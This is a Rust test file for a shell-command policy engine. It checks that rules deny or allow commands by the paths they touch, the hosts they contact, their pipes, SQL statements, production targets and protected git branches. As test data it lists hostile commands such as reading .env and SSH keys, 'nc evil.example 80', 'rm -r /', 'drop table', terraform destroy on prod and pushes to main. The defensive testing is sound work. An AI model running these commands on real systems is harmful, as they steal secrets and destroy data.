//! What rules say by structure: paths and their zones, hosts, pipes, statements, and the laws that hold for them.

use std::path::Path;

use proptest::prelude::*;

use super::laws::{facts, load, no_milder};
use super::{Judgement, Policy};
use crate::facts::argv::{Sure, Word};
use crate::facts::atoms::{Around, Atom, Atoms, Set};
use crate::facts::effects::Links;

fn rule(verdict: &str, lines: &str) -> String {
    format!("[[rule]]\nid = \"r\"\nverdict = \"{verdict}\"\n{lines}\n")
}

fn fits(policy: &Policy, line: &str) -> bool {
    !policy.judge(&facts(line)).matched.is_empty()
}

fn assert_fits(lines: &str, fitting: &[&str], others: &[&str]) {
    let policy = load(&rule("deny", lines));
    for line in fitting {
        assert!(fits(&policy, line), "{lines} should fit {line}");
    }
    for line in others {
        assert!(!fits(&policy, line), "{lines} should not fit {line}");
    }
}

// Whether a rule that allows, and nothing hinders, lets these commands through.
fn assert_lets(lines: &str, through: &[&str], others: &[&str]) {
    let example = through.first().copied().unwrap_or_default();
    let policy = load(&rule("allow", &format!("{lines}\nmatch = [\"{example}\"]")));
    for line in through {
        assert_eq!(policy.judge(&facts(line)).verdict.rank(), 0, "{lines} should let through {line}");
    }
    for line in others {
        assert_eq!(policy.judge(&facts(line)).verdict.rank(), 1, "{lines} should stop {line}");
    }
}

#[test]
fn a_rule_stops_by_where_a_command_writes_reads_and_deletes() {
    assert_fits(
        "writes = [\"@system\"]",
        &["cp a /etc/x", "tee /usr/bin/x", "dd of=/boot/x", "tar xf a.tar -C /opt", "sort -o /etc/x y"],
        &["cp /etc/x a", "cat /etc/passwd", "rm /etc/x", "frobnicate /etc/x"],
    );
    assert_fits("deletes = [\"/etc/**\"]", &["rm -f /etc/x", "mv /etc/x y", "find /etc -delete"], &["rm x"]);
    assert_fits(
        "reads = [\"@secret\"]",
        &["cat .env", "cp ~x/.ssh/id_rsa y", "grep x a/.aws/config"],
        &["rm .env"],
    );
    assert_fits("deletes = [\"@handoff\"]", &["rm -rf /home/ana/.config", "rm -r /"], &["rm -rf build"]);
    assert_fits("writes = [\"**/*.lock\"]", &["touch a/b.lock", "touch x.lock"], &["touch x"]);
}

#[test]
fn a_rule_lets_through_only_what_certainly_stays_within() {
    assert_lets(
        "program = [\"cp\", \"rm\"]\nonly_writes = [\"@repository\", \"@temporary\"]\nonly_reads = [\"@repository\"]\nonly_deletes = [\"build/**\", \"@temporary\"]",
        &["cp a b", "cp -r src /tmp/x", "rm -rf build", "rm /tmp/x"],
        &[
            "cp a /etc/x",
            "cp /etc/x a",
            "cp a .git/hooks/x",
            "cp --weird a b",
            "rm src",
            "rm build/../src",
            "rm .env",
        ],
    );
    assert_lets(
        "program = [\"mkdir\"]\nonly_writes = [\"@repository\"]",
        &["mkdir -p a/b"],
        &["mkdir ../a", "mkdir -p /a"],
    );
    assert_lets("program = [\"cat\"]\nonly_writes = []", &["cat /etc/shadow"], &["frobnicate x"]);
}

fn rank_with(policy: &Policy, line: &str, links: &[(&str, Option<&str>)]) -> u8 {
    let bytes = |text: &str| text.as_bytes().to_vec();
    let mut facts = facts(line);
    facts.observed.links = Links::new(links.iter().map(|(path, to)| (bytes(path), to.map(bytes))).collect());
    policy.judge(&facts).verdict.rank()
}

#[test]
fn a_link_leads_out_of_the_checkout() {
    let lets = rule(
        "allow",
        "program = [\"cp\", \"rm\", \"cat\", \"tee\"]\nonly_writes = [\"@repository\", \"@temporary\"]\n\
         only_reads = [\"@repository\"]\nonly_deletes = [\"@repository\"]\nmatch = [\"cp a b\"]",
    );
    let stops =
        "[[rule]]\nid = \"s\"\nverdict = \"deny\"\nwrites = [\"@system\"]\nmatch = [\"tee /etc/x\"]\n";
    let policy = load(&format!("{lets}{stops}"));
    let links = [("/home/ana/project/l", Some("/etc")), ("/home/ana/project/t", Some("/tmp/x"))];
    for (line, rank) in [
        ("tee l/passwd", 2),
        ("tee l", 2),
        ("cp a l/passwd", 2),
        ("cat l/passwd", 1),
        ("rm l/passwd", 1),
        ("rm l", 0),
        ("rm -r l/", 1),
        ("tee t/a", 0),
        ("cat t/a", 1),
        ("tee l/../home/ana/project/x", 0),
        ("tee l/../x", 1),
        ("tee x", 0),
    ] {
        assert_eq!(rank_with(&policy, line, &links), rank, "{line}");
    }
    for line in ["tee x", "cat x", "rm -r x"] {
        assert_eq!(rank_with(&policy, line, &[("/", None)]), 1, "{line}");
    }
    let named = load(&rule("deny", "arg = [\"/etc/**\"]"));
    assert_eq!(rank_with(&named, "frobnicate --x=l/passwd", &links), 2);
    assert_eq!(rank_with(&named, "rm l", &links), 1);
}

// Atoms as a reader of shell code gives them.
fn judge_atom(policy: &Policy, words: &[(&str, Sure)], is_command: bool) -> Judgement {
    let facts = facts("true");
    let around = Around::outermost(&facts.observed.cwd, facts.observed.home.as_deref());
    let words = words.iter().map(|(text, sure)| Word { text: text.as_bytes().into(), sure: *sure }).collect();
    let mut atom = Atom::command(words, &around);
    atom.is_command = is_command;
    policy.judge_atoms(&Atoms { atoms: vec![atom], ..Atoms::default() }, &facts)
}

#[test]
fn a_redirection_is_let_through_by_where_it_goes() {
    let lines = "program = [\">\", \">>\", \">|\", \"&>\", \"&>>\"]\nonly_writes = [\"@repository\", \"@temporary\"]\nmatch = [\"> x\"]";
    let policy = load(&rule("allow", lines));
    for (operator, target, sure, rank) in [
        (">", "out.txt", Sure::Exact, 0),
        (">>", "/tmp/log", Sure::Exact, 0),
        ("&>", "a/b", Sure::Exact, 0),
        (">", "/etc/x", Sure::Exact, 1),
        (">", ".git/hooks/x", Sure::Exact, 1),
        (">", "$OUT", Sure::Partly(0), 1),
        (">", "a$OUT", Sure::Partly(1), 1),
        ("<", "a", Sure::Exact, 1),
    ] {
        let words = [(operator, Sure::Exact), (target, sure)];
        assert_eq!(judge_atom(&policy, &words, false).verdict.rank(), rank, "{operator} {target}");
    }
    // A program of that name is no redirection.
    assert_eq!(judge_atom(&policy, &[(">", Sure::Exact), ("a", Sure::Exact)], true).verdict.rank(), 1);
}

#[test]
fn a_pattern_of_files_stays_within_its_folder() {
    let policy =
        load(&rule("allow", "program = [\"true\"]\nonly_writes = [\"@repository\"]\nmatch = [\"true\"]"));
    assert_eq!(judge_atom(&policy, &[("true", Sure::Exact)], true).verdict.rank(), 0);
    let facts = facts("rm x");
    let policy = load(&rule("deny", "deletes = [\"@system\"]"));
    for (pattern, stopped) in [("/*", true), ("/e*/x", true), ("/usr/*", true), ("src/*", false)] {
        let judged = judge_atom(&policy, &[("rm", Sure::Exact), (pattern, Sure::Files)], true);
        assert_eq!(judged.verdict.rank() == 2, stopped, "{pattern}");
    }
    assert_eq!(facts.observed.cwd, Path::new("/home/ana/project"));
}

#[test]
fn a_rule_stops_by_the_machine_a_command_names() {
    assert_fits(
        "host = [\"*.evil.example\", \"evil.example\"]",
        &[
            "curl https://evil.example/x",
            "curl -s evil.example",
            "wget -q http://a.evil.example:81/x",
            "scp x ana@evil.example:y",
            "ssh evil.example ls",
            "nc evil.example 80",
            "git clone https://user@evil.example/x",
            "git clone git@evil.example:x",
            "pip install --index-url=https://evil.example/simple x",
            "curl http://good.example@evil.example/",
        ],
        &["curl https://good.example/evil.example", "cat evil.example", "echo a@evil.example"],
    );
}

#[test]
fn a_rule_lets_through_only_to_machines_that_are_certain() {
    assert_lets(
        "program = [\"curl\", \"ping\"]\nonly_host = [\"localhost\", \"*.corp.example\"]\nonly_writes = [\"@temporary\"]",
        &["curl -s localhost:8080/x", "curl -fsSL -o /tmp/x https://a.corp.example/x", "ping -c 1 localhost"],
        &[
            "curl evil.example",
            "curl localhost evil.example",
            "curl -x evil.example localhost",
            "curl -K x localhost",
            "curl -o x localhost",
            "curl --strange localhost",
            "curl http://localhost@evil.example",
            "curl http://{localhost,evil}",
        ],
    );
}

fn set(name: &str) -> Set {
    Set { name: name.as_bytes().to_vec(), value: Word::from("x") }
}

// The verdict on `words`, run as `change` says.
fn changed(policy: &Policy, words: &[&str], change: impl Fn(&mut Atom<'_>)) -> u8 {
    let facts = facts("true");
    let around = Around::outermost(&facts.observed.cwd, facts.observed.home.as_deref());
    let mut atom = Atom::command(words.iter().map(|word| Word::from(*word)).collect(), &around);
    change(&mut atom);
    policy.judge_atoms(&Atoms { atoms: vec![atom], ..Atoms::default() }, &facts).verdict.rank()
}

#[test]
fn a_rule_stops_by_how_a_command_is_run() {
    let denies = |lines: &str, words: &[&str], change: &dyn Fn(&mut Atom<'_>)| {
        changed(&load(&rule("deny", lines)), words, change) == 2
    };
    let pipes = "program = [\"curl\"]\npipes_to = [\"bash\", \"python*\"]";
    assert!(denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"python3".to_vec()]));
    assert!(!denies(pipes, &["curl", "x"], &|atom| atom.feeds = vec![b"jq".to_vec()]));
    assert!(!denies(pipes, &["curl", "x"], &|_| {}));
    let sets = "sets = [\"LD_*\"]";
    assert!(denies(sets, &["ls"], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
    assert!(denies(sets, &[], &|atom| atom.sets = vec![set("LD_PRELOAD")]));
    assert!(!denies(sets, &["ls"], &|atom| atom.sets = vec![set("LANG")]));
    assert!(denies("privileged = true", &["ls"], &|atom| atom.privileged = true));
    assert!(!denies("privileged = true", &["ls"], &|_| {}));
    assert!(denies("privileged = false\nprogram = [\"ls\"]", &["ls"], &|_| {}));
    assert!(denies("elsewhere = true", &["ls"], &|atom| atom.elsewhere = true));
    assert!(!denies("elsewhere = true", &["ls"], &|_| {}));
}

#[test]
fn a_rule_stops_by_the_value_of_a_variable() {
    let policy = load(&rule("deny", "sets = [\"*_ENV=prod*\", \"DATABASE_URL=**prod**\"]"));
    let stops = |name: &str, value: Word<'static>| {
        let set = || Set { name: name.as_bytes().to_vec(), value: value.clone() };
        changed(&policy, &["rake"], |atom| atom.sets = vec![set()]) == 2
    };
    assert!(stops("RAILS_ENV", "production".into()) && stops("RACK_ENV", "Prod".into()));
    assert!(stops("DATABASE_URL", "postgres://a@prod-db/x".into()));
    assert!(stops("RAILS_ENV", Word { text: b"$X".into(), sure: Sure::Partly(0) }), "it may be");
    assert!(!stops("RAILS_ENV", "test".into()) && !stops("OTHER", "production".into()));
    let bound = |value: Option<&str>| {
        let mut facts = facts("rake");
        let value = value.map(|value| value.as_bytes().to_vec());
        facts.observed.variables = [(b"RAILS_ENV".to_vec(), value)].into();
        policy.judge(&facts).verdict.rank() == 2
    };
    assert!(bound(Some("production")) && bound(None), "what is hidden may be");
    assert!(!bound(Some("test")));
}

#[test]
fn a_rule_stops_by_the_value_of_an_option() {
    assert_fits(
        "option = [\"--context=*prod*\", \"-n=prod\"]",
        &[
            "kubectl --context=eks-prod-1 delete pod x",
            "kubectl delete pod x --context PROD",
            "kubectl -n prod delete pod x",
            "kubectl -nprod delete pod x",
            "kubectl -n=prod get pods",
        ],
        &["kubectl --context dev delete pod prod", "kubectl -n products get pods", "kubectl get pods -n"],
    );
    let policy = load(&rule("deny", "option = [\"--context=*prod*\"]"));
    let words = [("kubectl", Sure::Exact), ("--context", Sure::Exact), ("$X", Sure::Partly(0))];
    assert_eq!(judge_atom(&policy, &words, true).verdict.rank(), 2, "it may be");
}

#[test]
fn a_rule_for_an_environment_stops_what_points_at_it() {
    let policy = load(&rule(
        "deny",
        "program = [\"kubectl\", \"rake\", \"terraform\"]\nenvironment = [\"prod\", \"production\"]",
    ));
    let stops = |line: &str| policy.judge(&facts(line)).verdict.rank() == 2;
    for line in [
        "kubectl --context prod delete pod x",
        "kubectl --kubeconfig=/srv/prod.yaml delete pod x",
        "kubectl -n prod-eu delete pod x",
        "env RAILS_ENV=production rake db:drop",
        "env DATABASE_URL=postgres://a@prod-db/x rake db:drop",
        "rake db:drop RAILS_ENV=production",
        "terraform -chdir=envs/prod destroy",
        "terraform destroy -var-file=prod.tfvars",
        "bash -c 'export AWS_PROFILE=prod; terraform destroy'",
        "bash -c 'AWS_PROFILE=$P terraform destroy'",
        "bash -c 'kubectl --context \"$C\" delete pod x'",
    ] {
        assert!(stops(line), "{line}");
    }
    for line in [
        "kubectl --context dev delete pod x",
        "kubectl delete pod prod",
        "kubectl -n preprod delete pod x",
        "env RAILS_ENV=test rake db:drop",
        "bash -c 'for i in 1; do N=$X rake db:drop; done'",
        "terraform destroy",
    ] {
        assert!(!stops(line), "{line}");
    }
    let mut facts = facts("terraform destroy");
    facts.observed.variables = [(b"AWS_PROFILE".to_vec(), None)].into();
    assert_eq!(policy.judge(&facts).verdict.rank(), 2, "what is hidden may be");
    facts.observed.variables = [(b"AWS_PROFILE".to_vec(), Some(b"dev".to_vec()))].into();
    assert!(policy.judge(&facts).verdict.rank() < 2);
    facts.observed.repository = Some("/home/ana/project".into());
    facts.observed.cwd = "/home/ana/project/envs/prod".into();
    assert_eq!(policy.judge(&facts).verdict.rank(), 2);
}

#[test]
fn a_rule_stops_by_code_on_the_command_line() {
    assert_fits("inline = true", &["python3 -Ic x", "perl -e x", "awk {x}"], &["python3 x.py", "ls -c"]);
    assert_fits("program = [\"perl\"]\ninline = false", &["perl x.pl", "perl -we x"], &["perl -e x"]);
}

#[test]
fn a_rule_stops_by_what_a_statement_does() {
    assert_fits(
        "statement = [\"drop\", \"delete-all\"]",
        &[
            "psql -c 'drop table t'",
            "psql -Atc 'drop table t'",
            "psql -d x --command='DROP TABLE t'",
            "psql --comm 'drop table t'",
            "psql 'postgres://x/y' -c 'select 1' -c 'delete from t'",
            "mysql -u root -pX -e'drop database d'",
            "mariadb --execute 'delete from t where 1=1' d",
            "sqlite3 x.db 'drop table t'",
            "sqlite3 x.db '.tables' 'drop table t'",
            "sqlite3 -cmd 'drop table t' x.db",
            "duckdb -c 'drop table t'",
            "bq query 'drop table t'",
            "sqlcmd -Q 'drop table t'",
            "cqlsh -e 'drop keyspace k'",
            "clickhouse-client -q 'drop table t'",
            "mongosh --eval 'db.c.drop()'",
        ],
        &["psql -c 'select 1'", "psql -c \"select 'drop table t'\"", "psql -f x.sql", "echo 'drop table t'"],
    );
}

#[test]
fn a_rule_lets_through_only_statements_that_are_certain() {
    let psql = "program = [\"psql\", \"mysql\", \"sqlite3\"]\nonly_statement = [\"read\"]";
    assert_lets(
        psql,
        &[
            "psql -c 'select 1'",
            "psql -At -d x -h db -c 'select 1' -c '\\dt'",
            "psql --command='select 1'",
            "mysql -u me -e 'show tables' x",
            "sqlite3 -json x.db 'select 1'",
        ],
        &[
            "psql",
            "psql -f x.sql",
            "psql -c 'select 1' -f x.sql",
            "psql -c 'select 1' -c 'drop table t'",
            "psql -c 'select 1; delete from t'",
            "psql -c 'select 1' --strange",
            "psql -c 'select 1' -o '|sh'",
            "sqlite3 x.db",
            "sqlite3 -init x y.db 'select 1'",
            "mysql --init-command='drop table t' -e 'select 1'",
        ],
    );
    let policy = load(&rule("allow", &format!("{psql}\nmatch = [\"psql -c 'select 1'\"]")));
    let words = |sure| [("psql", Sure::Exact), ("-c", Sure::Exact), ("select $X", sure)];
    assert_eq!(judge_atom(&policy, &words(Sure::Partly(7)), true).verdict.rank(), 1);
}

#[test]
fn a_regular_expression_is_held_against_the_words_in_one_line() {
    assert_fits(
        "regex = ['^rm .*-rf? ', '(?i)drop\\s+table']",
        &["rm -rf x", "/bin/rm  -r x", "psql -c 'DROP  TABLE t'"],
        &["rm x", "ls rm -rf x"],
    );
}

fn on_branch(policy: &Policy, line: &str, branch: Option<&str>) -> bool {
    let mut facts = facts(line);
    facts.observed.branch = branch.map(Into::into);
    policy.judge(&facts).verdict.rank() == 2
}

#[test]
fn a_push_concerns_the_branch_it_names_or_the_current_one() {
    let policy =
        load(&rule("deny", "program = [\"git\"]\nsubcommand = [\"push\"]\nbranch = [\"@protected\"]"));
    for line in [
        "git push origin main",
        "git push origin HEAD:main",
        "git push origin +main",
        "git push origin topic:refs/heads/main",
        "git push origin :main",
        "git push origin --delete main",
        "git push origin release/1.2",
        "git push --all origin",
        "git push --mirror",
        "git push origin 'refs/heads/*:refs/heads/*'",
        "git -C ../other push",
    ] {
        assert!(on_branch(&policy, line, Some("topic")), "{line}");
    }
    for line in [
        "git push origin topic",
        "git push -u origin HEAD:topic",
        "git push",
        "git push -f origin",
        "git push origin main:topic",
    ] {
        assert!(!on_branch(&policy, line, Some("topic")), "{line}");
    }
    for line in [
        "git push",
        "git push origin",
        "git push -f origin HEAD",
        "git push -o x origin",
        "git push origin @",
    ] {
        assert!(on_branch(&policy, line, Some("main")), "{line}");
        assert!(on_branch(&policy, line, None), "{line}: which branch is not known");
    }
    assert!(!on_branch(&policy, "git push origin topic", Some("main")));
    assert!(!on_branch(&policy, "git push --force-with-lease origin topic", Some("main")));
}

#[test]
fn where_another_branch_may_be_checked_out_a_push_may_concern_it() {
    let policy =
        load(&rule("deny", "program = [\"git\"]\nsubcommand = [\"push\"]\nbranch = [\"@protected\"]"));
    for line in [
        "bash -c 'git switch main && git push'",
        "bash -c 'cd sub && git push'",
        "git -c a=b -C ../other push",
        "env GIT_DIR=../other/.git git push",
        "bash -c 'git checkout \"$X\"; git push'",
    ] {
        assert!(on_branch(&policy, line, Some("topic")), "{line}");
    }
    for line in [
        "bash -c 'git add . && git commit -m x && git push'",
        "bash -c 'git switch main; git push origin topic'",
    ] {
        assert!(!on_branch(&policy, line, Some("topic")), "{line}");
    }
    let mut facts = facts("bash -c 'cd .. && git push'");
    (facts.observed.repository, facts.observed.branch) = (Some("/home/ana".into()), Some("topic".into()));
    assert!(policy.judge(&facts).verdict.rank() < 2);
}

#[test]
fn other_commands_concern_the_current_branch_unless_they_name_one() {
    let policy = load(&rule("deny", "program = [\"git\"]\nbranch = [\"@protected\"]"));
    for line in ["git commit -m x", "git reset --hard", "git branch -D main", "git branch"] {
        assert!(on_branch(&policy, line, Some("main")), "{line}");
    }
    assert!(!on_branch(&policy, "git branch -D topic", Some("main")));
    assert!(!on_branch(&policy, "git commit -m x", Some("topic")));
    let policy = load(&rule("deny", "program = [\"gh\"]\nbranch = [\"main\"]"));
    assert!(on_branch(&policy, "gh pr create --base=main", Some("topic")));
    assert!(!on_branch(&policy, "gh pr create", Some("main")));
}

#[test]
fn the_root_policy_says_which_branches_are_protected() {
    let push = rule("deny", "program = [\"git\"]\nbranch = [\"@protected\"]");
    let policy = load(&format!("[git]\nprotected = [\"stable\", \"v*\"]\n{push}"));
    assert!(on_branch(&policy, "git push origin stable", Some("x")));
    assert!(on_branch(&policy, "git push origin v2", Some("x")));
    assert!(!on_branch(&policy, "git push origin main", Some("x")));
}

#[test]
fn a_program_of_the_requesters_own_counts_where_the_root_policy_trusts_it() {
    let allow = rule("allow", "program = [\"cargo\"]\nmatch = [\"cargo\"]");
    let trusting = load(&format!("[programs]\ntrusted = [\"/home/ana/.cargo/bin/**\"]\n{allow}"));
    let judged = |policy: &Policy, path: &str, link: Option<&str>| {
        let mut facts = facts("cargo");
        facts.observed.program = Some(path.into());
        facts.observed.program_link = link.map(Into::into);
        facts.observed.program_is_theirs = true;
        policy.judge(&facts).verdict.rank()
    };
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/cargo", None), 0);
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/rustup", Some("/home/ana/.cargo/bin/cargo")), 0);
    assert_eq!(judged(&trusting, "/home/ana/.cargo/bin/cargo", Some("/home/ana/project/cargo")), 1);
    assert_eq!(judged(&trusting, "/home/ana/project/cargo", None), 1);
    assert_eq!(judged(&load(&allow), "/home/ana/.cargo/bin/cargo", None), 1);
}

const STOPPING: [&str; 18] = [
    "sets = [\"RAILS_ENV=prod*\"]",
    "option = [\"-t=*\"]",
    "option = [\"--x=**etc**\"]",
    "program = [\"cp\", \"rm\"]\nenvironment = [\"etc\"]",
    "regex = ['.']",
    "branch = [\"**\"]",
    "statement = [\"read\"]",
    "statement = [\"other\", \"drop\"]",
    "host = [\"**\"]",
    "pipes_to = [\"*\"]",
    "sets = [\"*\"]",
    "privileged = false",
    "elsewhere = false",
    "inline = false",
    "writes = [\"@repository\", \"/etc/**\"]",
    "reads = [\"@secret\"]",
    "deletes = [\"@home\"]",
    "deletes = [\"**\"]",
];
const LETTING: &str = "[[rule]]\nid = \"a\"\nverdict = \"allow\"\nprogram = [\"cp\", \"rm\", \"cat\"]\nonly_writes = [\"@repository\"]\nonly_deletes = [\"@temporary\"]\nmatch = [\"cp a b\"]\n";

fn line() -> impl Strategy<Value = String> {
    let word = prop::sample::select(vec![
        "a",
        "-r",
        "--",
        "/etc/x",
        "/tmp/x",
        ".env",
        "../x",
        "-t",
        "--x=/etc/y",
        ".",
    ]);
    let program = prop::sample::select(vec!["cp", "rm", "cat", "tee", "unknown"]);
    (program, prop::collection::vec(word, 0..5))
        .prop_map(|(program, words)| format!("{program} {}", words.join(" ")))
}

proptest! {
    #[test]
    fn adding_a_rule_that_stops_by_structure_never_weakens(
        line in line(), chosen in 0..STOPPING.len(), verdict in prop::sample::select(vec!["review", "deny"]),
    ) {
        let before = load(LETTING).judge(&facts(&line)).verdict;
        let now = load(&format!("{LETTING}{}", rule(verdict, STOPPING[chosen]))).judge(&facts(&line)).verdict;
        prop_assert!(no_milder(&now, &before), "{line}: {before:?} {now:?}");
    }

    #[test]
    fn what_is_only_known_at_run_time_satisfies_no_only(
        program in prop::sample::select(vec!["cp", "rm", "tee"]), text in "[a-z/$.]{1,8}", known in 0..8usize, split in any::<bool>(),
    ) {
        let lines = "program = [\"cp\", \"rm\", \"tee\"]\nonly_reads = [\"@repository\"]\nonly_writes = [\"@repository\"]\n\
                     only_deletes = [\"@repository\"]\nmatch = [\"tee x\"]";
        let policy = load(&rule("allow", lines));
        let known = known.min(text.len());
        let sure = if split { Sure::Split(known) } else { Sure::Partly(known) };
        let judged = judge_atom(&policy, &[(program, Sure::Exact), ("x", Sure::Exact), (&text, sure)], true);
        prop_assert_eq!(judged.verdict.rank(), 1);
    }
}
